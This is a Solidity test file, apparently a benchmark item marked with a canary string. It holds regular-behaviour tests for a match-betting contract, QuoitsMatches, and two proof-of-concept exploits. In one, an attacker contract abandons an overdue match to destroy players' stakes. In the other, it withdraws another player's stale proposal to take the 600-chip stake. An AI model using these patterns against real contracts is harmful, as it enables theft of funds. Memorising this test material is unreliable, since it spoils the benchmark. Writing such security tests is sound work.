// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

// assay-canary-e15c12f1-19ca-4b6d-a278-37c48bbcd29d

import "./QuoitsMatches.sol";
import "./context/GuildChips.sol";

interface Vm {
    function warp(uint256 timestamp) external;
}

contract Player {
    QuoitsMatches private house;

    constructor(QuoitsMatches house_) public {
        house = house_;
        GuildChips(address(house_.chips())).approve(address(house_), uint256(-1));
    }

    function propose(address guest, address umpire, uint96 stake, uint64 playBy) external returns (uint256) {
        return house.propose(guest, umpire, stake, playBy);
    }

    function accept(uint256 id) external {
        house.accept(id);
    }

    function withdraw(uint256 id) external {
        house.withdraw(id);
    }

    function concede(uint256 id) external {
        house.concede(id);
    }

    function collectIfAny() external {
        if (house.credit(address(this)) > 0) house.collect();
    }
}

/// Not a player.
contract Attacker {
    function run(QuoitsMatches house, uint256 id) external {
        house.abandon(id);
    }

    function tidy(QuoitsMatches house, uint256 id) external {
        house.withdraw(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_766_500_000;

    GuildChips public chips;
    QuoitsMatches public house;
    Player public ann;
    Player public bob;
    Attacker public passer;
    uint256 public overdue;
    uint256 public stale; // proposed, and never accepted

    function setUp() public {
        vm.warp(START);
        chips = new GuildChips();
        house = new QuoitsMatches(chips);
        ann = new Player(house);
        bob = new Player(house);
        passer = new Attacker();
        chips.issue(address(ann), 2600);
        chips.issue(address(bob), 2000);
        overdue = ann.propose(address(bob), address(this), 700, uint64(START + 10 days));
        bob.accept(overdue);
        stale = ann.propose(address(bob), address(this), 600, uint64(START + 12 days));
        vm.warp(START + 14 days);
        chips.callRecess();
    }

    // Chips that the two players have or can still get.
    function playersChips() public view returns (uint256 sum) {
        sum = chips.balanceOf(address(ann)) + chips.balanceOf(address(bob));
        sum += house.credit(address(ann)) + house.credit(address(bob));
        for (uint256 i = 0; i < house.matchCount(); ++i) {
            (, , , uint96 stake, , QuoitsMatches.State state) = house.matches(i);
            if (state == QuoitsMatches.State.Proposed) sum += stake;
            if (state == QuoitsMatches.State.Playing) sum += 2 * uint256(stake);
        }
    }

    function test_Regular() public {
        require(playersChips() == 4600 && house.isOverdue(overdue), "nothing lost");
        vm.warp(START + 15 days);
        house.abandon(overdue);
        ann.collectIfAny();
        bob.collectIfAny();
        require(chips.balanceOf(address(ann)) == 2000 && chips.balanceOf(address(bob)) == 2000, "stakes are back");
        try house.abandon(overdue) {
            revert("abandoned twice");
        } catch {}

        // The umpire reports, the winner collects.
        uint256 id = ann.propose(address(bob), address(this), 500, uint64(block.timestamp + 5 days));
        try house.abandon(id) {
            revert("not accepted");
        } catch {}
        bob.accept(id);
        try ann.withdraw(id) {
            revert("accepted already");
        } catch {}
        try house.abandon(id) {
            revert("not overdue");
        } catch {}
        house.report(id, false);
        require(house.credit(address(bob)) == 980 && house.credit(address(this)) == 20, "credits");
        bob.collectIfAny();
        require(chips.balanceOf(address(bob)) == 2480, "collected");
        house.collect();

        // One is conceded, one withdrawn.
        id = bob.propose(address(ann), address(this), 100, uint64(block.timestamp + 5 days));
        ann.accept(id);
        bob.concede(id);
        ann.collectIfAny();
        require(chips.balanceOf(address(ann)) == 1596, "conceded");
        id = bob.propose(address(ann), address(this), 100, uint64(block.timestamp + 5 days));
        bob.withdraw(id);
        require(chips.balanceOf(address(bob)) == 2380, "withdrawn");
        ann.withdraw(stale);
        require(chips.balanceOf(address(ann)) == 2196 && chips.balanceOf(address(house)) == 4, "nothing stays");
        try bob.accept(id) {
            revert("withdrawn");
        } catch {}
    }

    function exploit() public {
        passer.run(house, overdue);
    }

    function test_Exploit() public {
        uint256 before = playersChips();
        exploit();
        require(playersChips() + 1000 <= before, "stakes are lost");
    }

    // The recess is over a day later, and the proposal is out of date as before.
    function exploit2() public {
        vm.warp(START + 15 days);
        passer.tidy(house, stale);
    }

    function test_Exploit2() public {
        exploit2();
        require(chips.balanceOf(address(passer)) == 600, "somebody else's stake");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(passer);
    }
}
